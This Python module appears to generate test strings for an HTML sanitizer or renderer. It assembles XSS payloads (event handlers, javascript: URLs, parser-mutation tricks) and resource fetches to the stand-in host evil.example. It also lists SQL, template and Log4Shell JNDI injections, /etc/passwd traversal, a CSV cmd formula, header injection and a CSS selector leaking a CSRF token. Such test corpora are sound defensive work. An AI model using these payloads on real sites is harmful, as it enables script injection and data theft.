"""Texts that would run a script or fetch something, were they ever taken for markup.

Made of a few lists: elements that fire by themselves, with their events; ways to write a call; ways out of where a text
stands; parsers' quirks. `__xss()` is what each of them tries to call, `evil.example` what it tries to reach.
"""

from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

CALL = "__xss()"
_CALLS = (
    CALL,
    "top.__xss()",
    "self['__x'+'ss']()",
    "(0,eval)('__xs'+'s()')",
    "[1].some(__xss)",
    "setTimeout`__xss\\u0028\\u0029`",
    "&#95;_xss&#40;&#41;",
    "&#x5f;&#x5F;xss&lpar;&rpar;",
    "\\u005f_xss()",
)
_FIRING = (
    ("img src=x", "onerror"),
    ("img src=//evil.example/i", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("object data=x", "onerror"),
    ("script src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("iframe", "onload"),
    ("embed src=x", "onload"),
    ("style", "onload"),
    ("marquee", "onstart"),
    ("svg><animate attributeName=x dur=1ms", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("svg><image href=x", "onerror"),
    ("p style=animation:a", "onanimationstart"),
    ("div tabindex=1 autofocus", "onfocusin"),
)
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "\x01javascript:", "javascript&colon;")
_TARGETS = (
    "<a href='{}' autofocus>x</a>",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><input type=submit autofocus></form>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<svg><a xlink:href='{}'><text y=9>x</text></a></svg>",
    "<math href='{}'>x</math>",
    "<base href='{}//'>",
    "<button formaction='{}' autofocus>x</button>",
    "<svg><use href='{}'/></svg>",
    "{}",
)
_WAYS_OUT = (
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</iframe>",
    "</xmp>",
    "</option></select>",
    "</svg>",
    "</math>",
    "</time></p></td></table>",
    '" x="',
    "\\'>",
    "&quot;>",
    "%22%3E",
    "\u2028",
    "\r\n\r\n",
    "\0",
)
_WRAPPED = (
    "<script>{}</script>",
    "<script >{}</script >",
    "<SCRIPT>{}</SCRIPT>",
    "<script/x>{}</script>",
    "<script\n>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<svg><script>{}</script></svg>",
    "<svg><script>{}",
    "<math><script>{}</script></math>",
    "<template><script>{}</script></template>",
    "<noscript><script>{}</script></noscript>",
    "<script type=module>{}</script>",
    "<script>{}",
)
_MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={}>'>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<svg><desc><table><title><style></title></style><img src=x onerror={}></title>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={}></style></annotation-xml>",
    "<svg><foreignObject><style><!--</style></foreignObject><img src=x onerror={}>-->",
    "<select><template><style></select><img src=x onerror={}></style></template>",
    "<table><td><svg><style><![CDATA[</style><img src=x onerror={}>]]>",
    "<a><b><a><table><style><!--</style><img src=x onerror={}>",
    "<!--><img src=x onerror={}>-->",
    "<!---><img src=x onerror={}>-->",
    "<!-- --!><img src=x onerror={}> -->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml ><img src=x onerror={}> ?>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={}>'>]>&y;",
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<plaintext><img src=x onerror={}>",
    "<option><style></option></select><img src=x onerror={}></style>",
)
_FETCHING = (
    "<img src=//evil.example/1>",
    "<img srcset='//evil.example/2 1x'>",
    "<picture><source srcset=//evil.example/3><img></picture>",
    "<link rel=stylesheet href=//evil.example/4>",
    "<link rel=prefetch href=//evil.example/5>",
    "<link rel=preconnect href=//evil.example>",
    "<style>@import '//evil.example/6'</style>",
    "<style>*{background:url(//evil.example/7)}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/8)}*{font-family:x}</style>",
    "<p style=background:url(//evil.example/9)>x",
    "<table background=//evil.example/10><td background=//evil.example/11>x",
    "<video poster=//evil.example/12></video>",
    "<audio src=//evil.example/13 autoplay></audio>",
    "<track src=//evil.example/14>",
    "<iframe src=//evil.example/15></iframe>",
    "<object data=//evil.example/16></object>",
    "<embed src=//evil.example/17>",
    "<svg><image href=//evil.example/18 /></svg>",
    "<svg><use href=//evil.example/19#x /></svg>",
    "<svg><filter><feImage href=//evil.example/20 /></filter></svg>",
    "<input type=image src=//evil.example/21>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/22'>",
    "<script src=//evil.example/23></script>",
    "<body background=//evil.example/24>",
    "<frameset><frame src=//evil.example/25></frameset>",
    "<a ping=//evil.example/26 href=# autofocus>x</a>",
    "<form action=//evil.example/27><button autofocus>x</button></form>",
    "<svg style='mask:url(//evil.example/28)'>",
    "<ul style='list-style-image:url(//evil.example/29)'><li>x",
    "<p style=cursor:url(//evil.example/30),auto>x",
    "<xml src=//evil.example/31><portal src=//evil.example/32></portal>",
)
_NAUGHTY = (
    "undefined",
    "null",
    "NaN",
    "-1",
    "1e309",
    "0x7fffffffffffffff",
    "' OR 1=1 --",
    "'; DROP TABLE cases; --",
    "%s%s%s%n",
    "%(name)s {name} {0} ${x}",
    "{{7*7}}{% for x in y %}",
    "{{ config.items() }}",
    "${jndi:ldap://evil.example/x}",
    "../../../../etc/passwd",
    "/dev/null",
    "C:\\con\\con",
    "\ufeffmark",
    "\u202egnp.exe\u202c",
    "\u2066left\u2067right\u2069",
    "Z\u0351\u0325a\u0300\u0489l\u0310go" * 5,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\ufdfd\ufffe\uffff",
    "\u00ad\u200b\u2060\u180e",
    "\x1b[31mred\x1b[0m\x07",
    "a" * 500,
    "\u0130\u0131\u017f\u212a",
    "\uff1cscript\uff1e__xss()\uff1c/script\uff1e",
    "<\u017fcript>__xss()</\u017fcript>",
    "\u2039script\u203a__xss()",
    "+ADw-script+AD4-__xss()+ADw-/script+AD4-",
    "\x1b$B<script>__xss()</script>",
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd",
    "\r\nSet-Cookie: x=1",
    "\nBcc: x@evil.example",
    "=?utf-8?q?=3Cscript=3E__xss()=3C/script=3E?=",
    "<x onclick=__xss() id=main name=csrf form=decide style=position:fixed;inset:0>x",
    "<input type=hidden name=csrf value=x><input name=action value=approve>",
    "<a id=csrf name=csrf href=x>x</a><form id=decide><input name=csrf>",
    "<style>input[name=csrf][value^=a]{background:url(//evil.example/c)}",
    "<textarea>",
    "<title>",
    "<!--",
    "<![CDATA[",
    "<plaintext>",
    "<script",
    "<img src='",
    '<a href="',
    "</",
    "<",
    "&",
    "&#0;",
    "&#x110000;",
    "&lt;script&gt;__xss()&lt;/script&gt;",
)


def strings() -> list[str]:
    """All of them, each once, in the same order each time."""
    return list(dict.fromkeys(_make()))


def _make() -> Iterator[str]:
    for (element, event), call in product(_FIRING, _CALLS):
        yield f"<{element} {event}={call if ' ' not in call else repr(call)}>"
    for (element, event), form in product(_FIRING[:12], ('<{}/{}="{}"', "<{}\n{}\n=\n'{}'>", "<{}\x0c{}={}//")):
        yield form.format(element, event, CALL)
    for scheme, target in product(_SCHEMES, _TARGETS):
        yield target.format(f"{scheme}parent.{CALL}")
    for target in _TARGETS:
        yield target.format(f"data:text/html,<script>parent.{CALL}</script>")
        yield target.format("data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg==")
        yield target.format(f"vbscript:{CALL}")
    for way_out, element in product(_WAYS_OUT, (f"<img src=x onerror={CALL}>", f"<svg onload={CALL}>")):
        yield way_out + element
    for way_out in _WAYS_OUT:
        yield f"{way_out} onmouseover={CALL} autofocus onfocus={CALL} tabindex=1 style=position:fixed;inset:0 x="
    for wrapped in (*_WRAPPED, *_MUTATING):
        for call in _CALLS[:2]:
            yield wrapped.format(call)
        yield escape(wrapped.format(CALL))
        yield quote(wrapped.format(CALL))
        yield wrapped.format(CALL).replace("<", "\uff1c")
        yield wrapped.format(CALL).replace("s", "\u017f")
        yield wrapped.format(CALL).replace("c", "c\0", 1)
        yield f'<iframe srcdoc="{escape(wrapped.format("parent." + CALL))}"></iframe>'
    yield from (f"-{CALL}-", f"'-{CALL}-'", f'"-{CALL}-"', f"`${{{CALL}}}`", f"*/{CALL}//", f'\\";{CALL}//')
    yield from _FETCHING
    yield from _NAUGHTY
